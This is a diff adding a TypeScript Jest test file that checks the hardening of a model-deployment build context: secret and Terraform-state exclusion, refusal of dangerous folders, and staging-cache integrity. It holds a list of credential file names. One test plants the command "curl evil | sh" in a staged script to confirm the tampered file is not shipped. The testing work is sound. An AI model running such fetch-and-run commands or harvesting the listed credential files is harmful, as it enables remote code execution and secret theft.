@@ -1,0 +1,339 @@
+/**
+ * Issue 7 items 1, 2 and 12: secrets stay out of the image, dangerous folders are refused, the
+ * staging cache is private and verified before reuse, and nothing can shadow the model.
+ */
+import * as fs from "fs";
+import * as os from "os";
+import * as path from "path";
+import { BuildContextSpec, computeFingerprint, SECRET_EXCLUDES, stageBuildContext, stagingRoot, STAGING_DIR_ENV } from "../lib/image/build-context";
+import { DigestCache } from "../lib/image/staging/digest-cache";
+import { preparePrivateRoot, removeOldContexts, manifestPath } from "../lib/image/staging/staging-root";
+import { resolveEntryScript } from "../lib/entry-script";
+import { ModelSource } from "../lib/model/model-source";
+import { ValidationError } from "../lib/errors";
+
+const SCRIPT = "def init():\n    pass\n\ndef run(data):\n    return data\n";
+
+let work: string;
+let savedEnv: string | undefined;
+beforeAll(() => {
+  work = fs.mkdtempSync(path.join(os.tmpdir(), "build-context-hardening-"));
+  savedEnv = process.env[STAGING_DIR_ENV];
+  process.env[STAGING_DIR_ENV] = path.join(work, "staging");
+});
+afterAll(() => {
+  if (savedEnv === undefined) delete process.env[STAGING_DIR_ENV];
+  else process.env[STAGING_DIR_ENV] = savedEnv;
+  fs.rmSync(work, { recursive: true, force: true });
+});
+
+let counter = 0;
+function writeTree(root: string, files: { [rel: string]: string }): void {
+  for (const [rel, text] of Object.entries(files)) {
+    const p = path.join(root, ...rel.split("/"));
+    fs.mkdirSync(path.dirname(p), { recursive: true });
+    fs.writeFileSync(p, text);
+  }
+}
+
+function project(extra: { [rel: string]: string } = {}): string {
+  const root = path.join(work, `p${counter++}`);
+  writeTree(root, {
+    "scoring-image/Dockerfile": "FROM python\n",
+    "scoring-image/requirements.txt": "azure-functions\n",
+    "scoring-image/aml_host/server.py": "print('host')\n",
+    "scoring-image/adapters/http.py": "# http\n",
+    "src/score.py": SCRIPT,
+    "models/bundle/weights.bin": "0123456789",
+    ...extra,
+  });
+  return root;
+}
+
+function spec(root: string, overrides: Partial<BuildContextSpec> = {}): BuildContextSpec {
+  return {
+    scoringImageDir: path.join(root, "scoring-image"),
+    model: ModelSource.fromLocalPath(path.join(root, "models", "bundle")).resolve("T"),
+    entryScript: resolveEntryScript("T", path.join(root, "src", "score.py")),
+    requirementsTxt: "numpy\n",
+    generatedFiles: { "app/host.json": "{}" },
+    buildArgs: { AZUREML_ENTRY_SCRIPT: "score.py" },
+    platform: "linux/amd64",
+    owner: "Deployment",
+    ...overrides,
+  };
+}
+
+/** Every hostile file the issue names, plus the other obvious credential files. */
+const HOSTILE = [
+  ".env",
+  ".env.production",
+  "secrets.json",
+  "id_rsa",
+  "id_ed25519",
+  ".aws/credentials",
+  "credentials",
+  ".npmrc",
+  "tls.pem",
+  "server.key",
+  "terraform.tfstate",
+  "terraform.tfstate.backup",
+  "prod.tfvars",
+  ".netrc",
+  ".pypirc",
+  ".git-credentials",
+  ".azure/msal_token_cache.json",
+  ".ssh/config",
+  "nested/deeper/.env",
+];
+
+describe("secret exclusions", () => {
+  let warn: jest.SpyInstance;
+  beforeEach(() => {
+    warn = jest.spyOn(console, "warn").mockImplementation(() => undefined);
+  });
+  afterEach(() => warn.mockRestore());
+
+  test("the list is exported and covers the files the issue names", () => {
+    for (const p of ["**/.env", "**/.env.*", "**/secrets.json", "**/id_rsa", "**/.aws", "**/credentials", "**/.npmrc", "**/*.pem", "**/*.key", "**/*.tfstate", "**/*.tfstate.*", "**/.ssh", "**/.azure", "**/.netrc", "**/.pypirc", "**/.git-credentials"]) {
+      expect(SECRET_EXCLUDES).toContain(p);
+    }
+  });
+
+  test.each(["src", "models/bundle"])("each hostile file in %s is left out, reported sorted, and does not change the fingerprint", (folder) => {
+    const clean = project();
+    const root = project(Object.fromEntries(HOSTILE.map((h) => [`${folder}/${h}`, `secret ${h}`])));
+    const staged = stageBuildContext(spec(root));
+    const prefix = folder === "src" ? "source/" : "model/bundle/";
+    for (const h of HOSTILE) expect(staged.files).not.toContain(`${prefix}${h}`);
+    expect(staged.files.filter((f) => f.startsWith(prefix))).toEqual(folder === "src" ? ["source/score.py"] : ["model/bundle/weights.bin"]);
+    // Nothing secret on disk in the staged context either.
+    const onDisk = fs.readdirSync(staged.directory, { recursive: true }).map(String);
+    expect(onDisk.some((f) => /secret|\.env|id_rsa|tfstate/.test(f))).toBe(false);
+    expect(staged.fingerprint).toBe(computeFingerprint(spec(clean)));
+    const expected = [
+      ".aws/", ".azure/", ".env", ".env.production", ".git-credentials", ".netrc", ".npmrc", ".pypirc", ".ssh/",
+      "credentials", "id_ed25519", "id_rsa", "nested/deeper/.env", "prod.tfvars", "secrets.json", "server.key",
+      "terraform.tfstate", "terraform.tfstate.backup", "tls.pem",
+    ].map((f) => `${prefix}${f}`);
+    expect(staged.secretExcluded).toEqual(expected);
+    expect(warn).toHaveBeenCalledTimes(1);
+    const message = String(warn.mock.calls[0][0]);
+    expect(message).toContain(`Deployment: left out of the image because they look like secrets or Terraform state: ${expected.join(", ")}.`);
+    expect(message).toContain(".dockerignore");
+  });
+
+  test("a ! line in the folder's .dockerignore re-includes one of them (and it is not reported)", () => {
+    const root = project({ "src/.env": "A=1", "src/server.key": "k", "src/.dockerignore": "!.env\n" });
+    const staged = stageBuildContext(spec(root));
+    expect(staged.files).toContain("source/.env");
+    expect(staged.files).not.toContain("source/server.key");
+    expect(staged.secretExcluded).toEqual(["source/server.key"]);
+  });
+
+  test("no warning when nothing was left out", () => {
+    stageBuildContext(spec(project()));
+    expect(warn).not.toHaveBeenCalled();
+  });
+
+  test("an entry script folder with local Terraform state next to it: state left out, fingerprint stable across applies", () => {
+    const root = project({ "src/terraform.tfstate": "{\"serial\": 1}" });
+    const before = computeFingerprint(spec(root));
+    writeTree(root, { "src/terraform.tfstate": "{\"serial\": 2, \"password\": \"p\"}", "src/terraform.tfstate.backup": "{\"serial\": 1}" });
+    expect(computeFingerprint(spec(root))).toBe(before);
+  });
+});
+
+describe("dangerous folders are refused", () => {
+  const script = (sourceDir: string) => ({ absolutePath: path.join(sourceDir, "score.py"), sourceDir, relativePath: "score.py" });
+
+  test.each([
+    ["/", /invalid entryScript "\/": it is the root of the file system\. Allowed: a folder that holds only what the image needs/],
+    [os.homedir(), /invalid entryScript ".*": it is a home folder\. Allowed:/],
+    ["/home/alice", /invalid entryScript "\/home\/alice": it is a home folder\./],
+    ["/root", /invalid entryScript "\/root": it is a home folder\./],
+    [process.cwd(), /invalid entryScript ".*": it contains the cdktf project root .* \(Terraform state, cdktf\.out, node_modules\)/],
+    [path.dirname(process.cwd()), /it contains the cdktf project root/],
+  ])("entry script folder %s", (dir, message) => {
+    const root = project();
+    expect(() => computeFingerprint(spec(root, { entryScript: script(dir) }))).toThrow(ValidationError);
+    expect(() => computeFingerprint(spec(root, { entryScript: script(dir) }))).toThrow(message);
+  });
+
+  test("a model folder that is the project root", () => {
+    const root = project();
+    const model = { absolutePath: process.cwd(), kind: "directory" as const, basename: "x" };
+    expect(() => computeFingerprint(spec(root, { model }))).toThrow(/Deployment: invalid model ".*": it contains the cdktf project root/);
+  });
+
+  test("a folder holding the staging root", () => {
+    const root = project();
+    expect(() => computeFingerprint(spec(root, { entryScript: script(work) }))).toThrow(/it contains the build-context staging folder/);
+  });
+
+  test("a model file (not a folder) at the project root is fine: only that file is copied", () => {
+    const root = project();
+    const model = { absolutePath: path.join(process.cwd(), "package.json"), kind: "file" as const, basename: "package.json" };
+    const files = stageBuildContext(spec(root, { model })).files;
+    expect(files.filter((f) => f.startsWith("model/"))).toEqual(["model/package.json"]);
+  });
+});
+
+describe("nothing shadows the model (COPY order)", () => {
+  test("a source folder with azureml-models/ is refused", () => {
+    const root = project({ "src/azureml-models/bundle/weights.bin": "planted" });
+    expect(() => computeFingerprint(spec(root))).toThrow(/Deployment: invalid entryScript ".*src": its folder holds azureml-models\/bundle\/weights\.bin: the image copies the entry script's folder to \/var\/azureml-app, so it would replace files of the model/);
+  });
+
+  test("excluding it with .dockerignore is accepted", () => {
+    const root = project({ "src/azureml-models/bundle/weights.bin": "planted", "src/.dockerignore": "azureml-models\n" });
+    expect(stageBuildContext(spec(root)).files.some((f) => f.includes("azureml-models"))).toBe(false);
+  });
+
+  test("a model kept inside the source folder under azureml-models/ is fine (it is not copied twice)", () => {
+    const root = project({ "src/azureml-models/m.pkl": "model" });
+    const model = ModelSource.fromLocalPath(path.join(root, "src", "azureml-models")).resolve("T");
+    const staged = stageBuildContext(spec(root, { model }));
+    expect(staged.files).toContain("model/azureml-models/m.pkl");
+    expect(staged.files.some((f) => f.startsWith("source/azureml-models"))).toBe(false);
+  });
+});
+
+describe("the staging cache is not trusted because it exists", () => {
+  test("the staging root is private: created 0700, narrowed when wider, refused when a link", () => {
+    const root = stagingRoot();
+    expect(root).toBe(path.join(work, "staging"));
+    stageBuildContext(spec(project()));
+    expect(fs.statSync(root).mode & 0o777).toBe(0o700);
+    fs.chmodSync(root, 0o777);
+    stageBuildContext(spec(project()));
+    expect(fs.statSync(root).mode & 0o777).toBe(0o700);
+    const link = path.join(work, "link-root");
+    fs.symlinkSync(root, link);
+    expect(() => preparePrivateRoot("Deployment", link)).toThrow(/Deployment: invalid AML_FUNCTION_STAGING_DIR ".*link-root": the staging folder is a symbolic link/);
+  });
+
+  test("a staging root owned by another user is refused", () => {
+    const other = path.join(work, "other-owner");
+    fs.mkdirSync(other, { mode: 0o700 });
+    const owner = fs.statSync(other).uid;
+    // Pretend to be another user: the folder is then owned by someone else.
+    const spy = jest.spyOn(process, "getuid").mockReturnValue(owner + 4242);
+    try {
+      expect(() => preparePrivateRoot("Deployment", other)).toThrow(`Deployment: invalid AML_FUNCTION_STAGING_DIR ${JSON.stringify(other)}: the staging folder is owned by uid ${owner}, not by this user (uid ${owner + 4242})`);
+    } finally {
+      spy.mockRestore();
+    }
+  });
+
+  test("a planted score.py in the staged context is not shipped, even with its mtime set back", () => {
+    const root = project();
+    const first = stageBuildContext(spec(root));
+    const staged = path.join(first.directory, "source", "score.py");
+    const { atime, mtime } = fs.statSync(staged);
+    fs.writeFileSync(staged, "import os\nos.system('curl evil | sh')\n");
+    fs.utimesSync(staged, atime, mtime);
+    const again = stageBuildContext(spec(root));
+    expect(again.fingerprint).toBe(first.fingerprint);
+    expect(fs.readFileSync(path.join(again.directory, "source", "score.py"), "utf8")).toBe(SCRIPT);
+  });
+
+  test("a staged model file replaced by another file (same size and bytes) is restaged", () => {
+    const root = project();
+    const first = stageBuildContext(spec(root));
+    const staged = path.join(first.directory, "model", "bundle", "weights.bin");
+    fs.rmSync(staged);
+    fs.writeFileSync(staged, "0123456789");
+    // A second link keeps the replacement's inode number from being reused by the restage.
+    const keep = path.join(work, `keep-${counter++}`);
+    fs.linkSync(staged, keep);
+    const again = stageBuildContext(spec(root));
+    expect(fs.statSync(path.join(again.directory, "model", "bundle", "weights.bin")).ino).not.toBe(fs.statSync(keep).ino);
+  });
+
+  test("a context without its manifest is restaged (and gets one)", () => {
+    const root = project();
+    const first = stageBuildContext(spec(root));
+    const manifest = manifestPath(path.dirname(first.directory), first.fingerprint);
+    const keep = path.join(work, `keep-${counter++}`);
+    fs.linkSync(path.join(first.directory, "source", "score.py"), keep);
+    fs.rmSync(manifest);
+    stageBuildContext(spec(root));
+    expect(fs.statSync(path.join(first.directory, "source", "score.py")).ino).not.toBe(fs.statSync(keep).ino);
+    expect(fs.existsSync(manifest)).toBe(true);
+  });
+
+  test("staged files are 0644 and folders 0755 whatever the inputs had", () => {
+    const root = project();
+    fs.chmodSync(path.join(root, "src", "score.py"), 0o700);
+    fs.chmodSync(path.join(root, "models", "bundle"), 0o700);
+    const staged = stageBuildContext(spec(root));
+    expect(fs.statSync(path.join(staged.directory, "source", "score.py")).mode & 0o777).toBe(0o644);
+    expect(fs.statSync(path.join(staged.directory, "model", "bundle")).mode & 0o777).toBe(0o755);
+  });
+});
+
+describe("old contexts are cleaned up", () => {
+  test("contexts unused for over 7 days go, and beyond the 20 most recent those older than an hour", () => {
+    const root = fs.mkdtempSync(path.join(work, "cleanup-"));
+    const now = Date.now() / 1000;
+    const make = (i: number, ageSeconds: number): string => {
+      const name = i.toString(16).padStart(64, "0");
+      fs.mkdirSync(path.join(root, name));
+      fs.writeFileSync(manifestPath(root, name), "{}");
+      fs.writeFileSync(path.join(root, `${name}.tar.gz`), "archive");
+      fs.utimesSync(manifestPath(root, name), now - ageSeconds, now - ageSeconds);
+      return name;
+    };
+    const fresh = Array.from({ length: 25 }, (_, i) => make(i + 1, 60)); // used a minute ago
+    const hoursOld = Array.from({ length: 25 }, (_, i) => make(i + 100, 7200 + i)); // two hours ago
+    const weekOld = make(500, 8 * 24 * 3600);
+    const current = make(999, 30 * 24 * 3600); // the one in use is never removed
+    fs.mkdirSync(path.join(root, ".staging-abc-old"));
+    fs.utimesSync(path.join(root, ".staging-abc-old"), now - 7200, now - 7200);
+    removeOldContexts(root, current);
+    const left = new Set(fs.readdirSync(root));
+    for (const n of fresh) expect(left.has(n) && left.has(`${n}.tar.gz`) && left.has(`${n}.manifest.json`)).toBe(true);
+    for (const n of hoursOld) expect(left.has(n) || left.has(`${n}.tar.gz`) || left.has(`${n}.manifest.json`)).toBe(false);
+    expect(left.has(weekOld)).toBe(false);
+    expect(left.has(current)).toBe(true);
+    expect(left.has(".staging-abc-old")).toBe(false);
+  });
+});
+
+describe("the digest cache", () => {
+  test("an unchanged, settled file is not read again; a changed one is", async () => {
+    const dir = fs.mkdtempSync(path.join(work, "digest-"));
+    const file = path.join(dir, "model.bin");
+    fs.writeFileSync(file, "a".repeat(1000));
+    const cacheFile = path.join(dir, "cache.json");
+    // Fresh files are always re-hashed (a change within the same timestamp tick would not show).
+    const c0 = new DigestCache(cacheFile);
+    const d0 = c0.digest(file).sha256;
+    c0.save();
+    expect(new DigestCache(cacheFile).digest(file).sha256).toBe(d0);
+    await new Promise((r) => setTimeout(r, 2100));
+    const c1 = new DigestCache(cacheFile);
+    expect(c1.digest(file).sha256).toBe(d0);
+    expect(c1.hashedFiles).toBe(1);
+    c1.save();
+    const c2 = new DigestCache(cacheFile);
+    expect(c2.digest(file).sha256).toBe(d0);
+    expect(c2.hashedFiles).toBe(0);
+    // Same size, mtime set back: ctime still moves, so it is read again.
+    const { atime, mtime } = fs.statSync(file);
+    fs.writeFileSync(file, "b".repeat(1000));
+    fs.utimesSync(file, atime, mtime);
+    const c3 = new DigestCache(cacheFile);
+    expect(c3.digest(file).sha256).not.toBe(d0);
+    expect(c3.hashedFiles).toBe(1);
+  });
+
+  test("a damaged cache file is ignored", () => {
+    const dir = fs.mkdtempSync(path.join(work, "digest-"));
+    fs.writeFileSync(path.join(dir, "m"), "x");
+    fs.writeFileSync(path.join(dir, "cache.json"), "{not json");
+    const c = new DigestCache(path.join(dir, "cache.json"));
+    expect(c.digest(path.join(dir, "m")).sha256).toBe("2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881");
+  });
+});
